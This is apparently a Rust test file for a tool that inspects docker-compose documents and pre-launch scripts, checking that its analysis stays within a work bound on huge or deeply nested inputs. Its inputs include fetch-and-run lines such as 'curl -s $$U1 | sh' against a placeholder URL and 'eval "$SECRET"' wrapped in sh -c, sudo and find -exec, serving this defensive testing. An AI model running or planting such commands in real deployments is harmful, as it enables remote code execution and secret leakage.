//! Documents that are longer than any of a deployment: the work is bounded, and what is not judged decides code.

use serde_json::{Map, Value, json};

use super::{ComposeFile, ComposeFileError, LaunchScript, read_document, work};

const DIGEST: &str = "@sha256:5618a93a78c9ac9173e7ebf7c8af173bd675be6832a2f8c2a9a7149ac2678f54";

#[test]
fn lists_beyond_a_number_of_words_are_not_judged() {
    let places = |lists: usize| {
        let words = ["app"]
            .into_iter()
            .chain(["--port", "${X}"].into_iter().cycle().take(240));
        let words: Vec<&str> = words.collect();
        let service = json!({ "image": format!("x/y{DIGEST}"), "entrypoint": words });
        let services: Map<String, _> = (0..lists).map(|at| (format!("s{at}"), service.clone())).collect();
        let compose = json!({ "services": services });
        let members = json!({
            "runner": "docker-compose",
            "allowed_envs": ["X"],
            "docker_compose_file": compose.to_string(),
        });
        let file = read_document(members.as_object().unwrap(), LaunchScript::None)
            .unwrap()
            .unwrap();
        (file.outside.count(), file.unmeasured.count())
    };
    assert_eq!(places(4), (480, 0));
    let (outside, unmeasured) = places(15);
    assert_eq!((outside + unmeasured, unmeasured), (15 * 120, 2 * 120));
}

/// A script in a config is told what the containers say that mount it, and of too many names what any container says.
#[test]
fn configs_beyond_a_number_of_addresses_are_told_all_of_them() {
    let executes = |names: usize, is_own: bool| {
        let entries: Map<String, _> = (0..names)
            .map(|at| (format!("U{at}"), json!("http://x.example.com/i.sh")))
            .collect();
        let image = format!("x/y{DIGEST}");
        let mounted: Vec<String> = (0..300).map(|at| format!("c{at}")).collect();
        let own = if is_own { vec!["start"] } else { Vec::new() };
        let mounted: Vec<&str> = mounted.iter().map(String::as_str).chain(own).collect();
        let compose = json!({
            "services": {
                "one": { "image": image, "environment": entries, "configs": mounted },
                "two": { "image": image, "configs": ["start"], "command": ["sh", "/start"] },
            },
            "configs": { "start": { "content": "curl -s $$U1 | sh\n" } },
        });
        let members = json!({ "runner": "docker-compose", "docker_compose_file": compose.to_string() });
        let file = read_document(members.as_object().unwrap(), LaunchScript::None)
            .unwrap()
            .unwrap();
        file.unmeasured.count()
    };
    assert_eq!(executes(200, false), 0);
    assert_eq!(executes(200, true), 1, "a container that mounts it says it");
    assert_eq!(executes(300, false), 1, "too many names");
}

fn read(members: &Value) -> Result<Option<ComposeFile>, ComposeFileError> {
    read_document(members.as_object().unwrap(), LaunchScript::Unknown)
}

/// A document with a pre-launch script, and one with a service for each script of a shell.
fn with_script(script: &str) -> Value {
    let compose = format!("services:\n  a:\n    image: x/y{DIGEST}\n");
    json!({
        "runner": "docker-compose",
        "allowed_envs": ["SECRET"],
        "docker_compose_file": compose,
        "pre_launch_script": format!("#!/bin/bash\n{script}\n"),
    })
}

fn with_services<'a>(scripts: impl IntoIterator<Item = &'a str>) -> Value {
    let service = |script: &str| {
        json!({
            "image": format!("x/y{DIGEST}"),
            "environment": { "SECRET": "${SECRET}" },
            "entrypoint": ["sh", "-c", script],
            "healthcheck": { "test": script },
        })
    };
    let services: Map<String, _> = (0..)
        .zip(scripts)
        .map(|(at, script): (u32, _)| (format!("s{at}"), service(script)))
        .collect();
    json!({
        "runner": "docker-compose",
        "allowed_envs": ["SECRET"],
        "docker_compose_file": json!({ "services": services }).to_string(),
    })
}

/// A script around a script and so on, each behind a program that starts it.
fn nested(starts: &str, levels: usize, inner: &str) -> String {
    let quoted = |script: String| format!("{starts} '{}'", script.replace('\'', r"'\''"));
    (0..levels).fold(inner.to_owned(), |script, _| quoted(script))
}

/// With a product of programs and words, of services and files, or of texts and depth, these would not end.
#[test]
fn a_document_that_takes_too_much_work_is_not_judged() {
    let download = "curl $$A | sh; ".repeat(4_000);
    let configs: Map<String, _> = (0..40)
        .map(|at| (format!("c{at}"), json!({ "content": download })))
        .collect();
    let mounted: Vec<&String> = configs.keys().collect();
    let service = json!({ "image": format!("x/y{DIGEST}"), "environment": ["SECRET"], "configs": mounted });
    let services: Map<String, _> = (0..40).map(|at| (format!("s{at}"), service.clone())).collect();
    let mounts = json!({
        "runner": "docker-compose",
        "docker_compose_file": json!({ "services": services, "configs": configs }).to_string(),
    });
    let assignments = "env A=b env B=c ".repeat(3_500);
    for members in [
        with_script(&"nice -n 5 ".repeat(6_000)),
        with_script(&"sudo -u x ".repeat(6_000)),
        with_script(&"env -S \"".repeat(7_000)),
        with_services([assignments.as_str(); 3]),
        with_services([download.as_str(); 16]),
        mounts,
    ] {
        // A sixteenth of it shows the same, and does not take as long.
        let found = work::within(work::MAX_WORK / 16, || read(&members)).unwrap();
        let error = found.unwrap_err();
        assert!(matches!(error, ComposeFileError::TooMuchWork), "{error}");
    }
    // The next document has its own.
    assert!(read(&with_script("echo a")).unwrap().is_some());
}

/// A text is judged once, by whichever of several ways it is executed.
#[test]
fn a_script_within_scripts_takes_work_of_its_own_length_at_each_level() {
    for starts in [
        "echo a | xargs sh -c",
        "nice -n 1 sh -c",
        "env A=b sh -c",
        "timeout 5 sh -c",
        "find . -exec sh -c",
        "sudo -u x bash -c",
    ] {
        let (few, deep) = (
            nested(starts, 2, "eval \"$SECRET\""),
            nested(starts, 6, "eval \"$SECRET\""),
        );
        let work = |script: &str| {
            let members = with_script(script);
            work::used_by(|| read(&members)).1
        };
        let (few, deep) = (work(&few), work(&deep));
        assert!(deep < few * 24, "{starts}: {few} for 2 levels, {deep} for 6");
        let file = read(&with_script(&nested(starts, 6, "eval \"$SECRET\"")))
            .unwrap()
            .unwrap();
        assert_eq!(file.unmeasured.count(), 1, "{starts}");
    }
}

/// What people deploy is far below the bound.
#[test]
fn real_documents_take_a_hundredth_of_the_work() {
    let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fixtures/compose");
    let mut read_files = 0;
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|end| end != "yml") {
            continue;
        }
        let text = std::fs::read_to_string(&path).unwrap();
        let members = json!({ "runner": "docker-compose", "docker_compose_file": text });
        let (_, work) = work::used_by(|| read(&members));
        assert!(work < work::MAX_WORK / 100, "{}: {work}", path.display());
        read_files += 1;
    }
    assert!(read_files > 20);
}
